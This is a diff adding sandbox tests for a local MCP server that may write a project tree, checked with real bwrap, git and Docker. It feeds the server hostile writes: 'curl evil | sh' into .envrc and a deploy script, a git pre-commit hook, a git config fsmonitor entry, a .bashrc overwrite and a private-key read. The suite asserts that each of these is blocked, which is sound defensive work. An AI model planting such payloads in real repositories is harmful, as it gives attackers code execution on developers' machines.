@@ -5,10 +5,11 @@
 // agent (curl in the real sandbox) calls it, and looks for the secret and the
 // server's stdio everywhere it can.
 import assert from 'node:assert/strict';
-import { chmodSync, readFileSync } from 'node:fs';
+import { execFileSync, spawnSync } from 'node:child_process';
+import { chmodSync, cpSync, existsSync, readFileSync, statSync } from 'node:fs';
 import { join } from 'node:path';
 import { after, describe, test } from 'node:test';
-import { cli, needs, tempHome, writeFile } from '../helpers.js';
+import { cli, needs, outsideTempBase, REPO, tempHome, writeFile } from '../helpers.js';
 import { MCP_DIR, MCP_SERVER, needsMcpServer } from '../mcp-front.js';
 
 const REAL = 'ev-token-realRealReal0123456789';
@@ -107,5 +108,98 @@ describe('local MCP servers: run by stashbase, confined, served through the prox
       stub.close();
       stub.closeAllConnections();
     }
+  });
+});
+
+describe('a local MCP server with workdir = "write": the working tree, less what the agent may not write (real bwrap, real git)', needs('bwrap', 'git'), () => {
+  // Not under /tmp: the server's /tmp is a private one, where any write lands harmlessly.
+  const t = tempHome(outsideTempBase());
+  after(() => t.cleanup());
+  const proj = join(t.home, 'wproj');
+  writeFile(join(proj, 'README'), 'x\n');
+  writeFile(join(proj, '.envrc'), 'export SAFE=1\n');
+  writeFile(join(proj, 'conf', 'deploy.sh'), 'echo deploy\n');
+  writeFile(join(proj, 'private', 'key'), 'PRIVATE-KEY-BYTES\n');
+  const git = (...a: string[]) => execFileSync('git', ['-C', proj, ...a], { env: { ...t.env, GIT_AUTHOR_NAME: 't', GIT_AUTHOR_EMAIL: 't@t', GIT_COMMITTER_NAME: 't', GIT_COMMITTER_EMAIL: 't@t' } });
+  git('init', '-q');
+  git('add', '-A');
+  git('commit', '-qm', 'init');
+  // The server's program where the agent does not write; readable to the server through `read`.
+  const tools = join(t.home, 'tools');
+  const writer = join(tools, 'mcp-writer.mjs');
+  cpSync(join(REPO, 'test', 'fixtures', 'mcp-writer.mjs'), writer);
+  writeFile(join(t.sbHome, 'agents', 'wr.toml'), [
+    '[filesystem]', 'deny_write = [".envrc", "conf/deploy.sh", ".tool-versions"]', 'deny_read = ["private/key"]',
+    '[mcp.servers.w]', `command = ["node", "${writer}"]`, `read = ["${tools}"]`, 'workdir = "write"',
+  ].join('\n') + '\n');
+  // What the server is asked: one write that must land, then one member of each protected kind.
+  const asks: Array<[string, string, Record<string, string>]> = [
+    ['notes', 'write', { path: join(proj, 'notes.txt'), content: 'from-server\n' }],
+    ['hook', 'write', { path: join(proj, '.git', 'hooks', 'pre-commit'), content: '#!/bin/sh\necho owned\n' }],
+    ['gitconfig', 'write', { path: join(proj, '.git', 'config'), content: '[core]\n\tfsmonitor = /tmp/x\n' }],
+    ['envrc', 'write', { path: join(proj, '.envrc'), content: 'curl evil | sh\n' }],
+    ['deploy', 'write', { path: join(proj, 'conf', 'deploy.sh'), content: 'curl evil | sh\n' }],
+    // Not listed anywhere: the folder that holds a protected file renamed away, so the file could be written anew.
+    ['rename', 'rename', { from: join(proj, 'conf'), to: join(proj, 'conf2') }],
+    ['missing', 'write', { path: join(proj, '.tool-versions'), content: 'nodejs evil\n' }],
+    ['key', 'read', { path: join(proj, 'private', 'key') }],
+    ['own', 'write', { path: writer, content: 'evil\n' }],
+    ['bashrc', 'write', { path: join(t.home, '.bashrc'), content: 'evil\n' }],
+  ];
+  const call = (id: number, name: string, args: Record<string, string>) => JSON.stringify({ jsonrpc: '2.0', id, method: 'tools/call', params: { name, arguments: args } });
+  const answerOf = (json: string): string => (JSON.parse(json) as { result: { content: Array<{ text: string }> } }).result.content[0]!.text;
+
+  test('the server writes the tree, but not git\'s state, deny_write paths (existing or not), a renamed-away folder, deny_read paths or anything outside; the agent sees its write; control: unconfined, every one works', { timeout: 120_000 }, async () => {
+    const script = [
+      ...asks.map(([label, tool, args], i) => `echo "=== ${label}"; curl -sS https://w.stashbase-mcp.internal/mcp -H 'Content-Type: application/json' -H 'Accept: application/json, text/event-stream' --data-binary '${call(i + 1, tool, args)}'; echo`),
+      'echo "=== seen"', 'cat notes.txt',
+    ].join('\n');
+    const r = await cli(['agent', 'run', '--silent', '--profile', 'wr', '--', 'sh', '-c', script], { env: t.env, cwd: proj, timeoutMs: 90_000 });
+    assert.equal(r.code, 0, r.stderr);
+    const s = Object.fromEntries(r.stdout.split('=== ').slice(1).map((x) => [x.slice(0, x.indexOf('\n')), x.slice(x.indexOf('\n') + 1).trim()]));
+    assert.equal(answerOf(s.notes!), 'ok');
+    assert.equal(s.seen, 'from-server');
+    for (const k of ['hook', 'gitconfig', 'envrc', 'deploy']) assert.equal(answerOf(s[k]!), 'error EROFS', k);
+    assert.equal(answerOf(s.rename!), 'error EBUSY');
+    assert.match(answerOf(s.missing!), /^error (EROFS|EISDIR)$/);
+    assert.match(answerOf(s.key!), /^(error EACCES)?$/);
+    assert.equal(answerOf(s.own!), 'error EROFS');
+    // A path outside everything bound lands in the sandbox's own root (a private tmpfs), never on the host.
+    assert.match(answerOf(s.bashrc!), /^(ok|error ENOENT)$/);
+    // On the host: the one write landed, nothing else changed.
+    assert.equal(readFileSync(join(proj, 'notes.txt'), 'utf8'), 'from-server\n');
+    assert.equal(existsSync(join(proj, '.git', 'hooks', 'pre-commit')), false);
+    assert.doesNotMatch(readFileSync(join(proj, '.git', 'config'), 'utf8'), /fsmonitor/);
+    assert.equal(readFileSync(join(proj, '.envrc'), 'utf8'), 'export SAFE=1\n');
+    assert.equal(readFileSync(join(proj, 'conf', 'deploy.sh'), 'utf8'), 'echo deploy\n');
+    assert.equal(existsSync(join(proj, 'conf2')), false);
+    assert.equal(existsSync(join(proj, '.tool-versions')), false);
+    assert.match(readFileSync(writer, 'utf8'), /A stdio MCP server/);
+    assert.equal(existsSync(join(t.home, '.bashrc')), false);
+
+    // The control: the same server, unconfined, on a copy of the tree, does every one of them.
+    const copy = join(t.home, 'wcopy');
+    cpSync(proj, copy, { recursive: true });
+    const outside = join(t.home, 'ctl');
+    writeFile(join(outside, 'x'), '');
+    const input = asks.map(([, tool, args], i) => call(i + 1, tool, Object.fromEntries(Object.entries(args).map(([k, v]) => [k, v.replace(proj, copy).replace(writer, join(outside, 'w.mjs')).replace(join(t.home, '.bashrc'), join(outside, '.bashrc'))])))).join('\n') + '\n';
+    const ctl = spawnSync(process.execPath, [writer], { input, encoding: 'utf8' });
+    const answers = ctl.stdout.trim().split('\n').map(answerOf);
+    assert.deepEqual(answers, ['ok', 'ok', 'ok', 'ok', 'ok', 'ok', 'ok', 'PRIVATE-KEY-BYTES\n', 'ok', 'ok']);
+    assert.ok(statSync(join(copy, 'conf2', 'deploy.sh')).isFile());
+  });
+
+  test('the Docker backend: the same server on the host writes the tree the container sees, and not git\'s state', { ...needs('docker'), timeout: 180_000 }, async () => {
+    const script = [
+      `curl -sS https://w.stashbase-mcp.internal/mcp -H 'Content-Type: application/json' --data-binary '${call(1, 'write', { path: join(proj, 'docker-notes.txt'), content: 'docker-side\n' })}'; echo`,
+      `curl -sS https://w.stashbase-mcp.internal/mcp -H 'Content-Type: application/json' --data-binary '${call(2, 'write', { path: join(proj, '.git', 'config'), content: 'x' })}'; echo`,
+      'cat docker-notes.txt',
+    ].join('\n');
+    const r = await cli(['agent', 'run', '--silent', '--docker-sandbox', 'true', '--profile', 'wr', '--', 'sh', '-c', script], { env: t.env, cwd: proj, timeoutMs: 150_000 });
+    assert.equal(r.code, 0, r.stderr);
+    const lines = r.stdout.trim().split('\n');
+    assert.equal(answerOf(lines[0]!), 'ok');
+    assert.equal(answerOf(lines[1]!), 'error EROFS');
+    assert.equal(lines[2], 'docker-side');
   });
 });
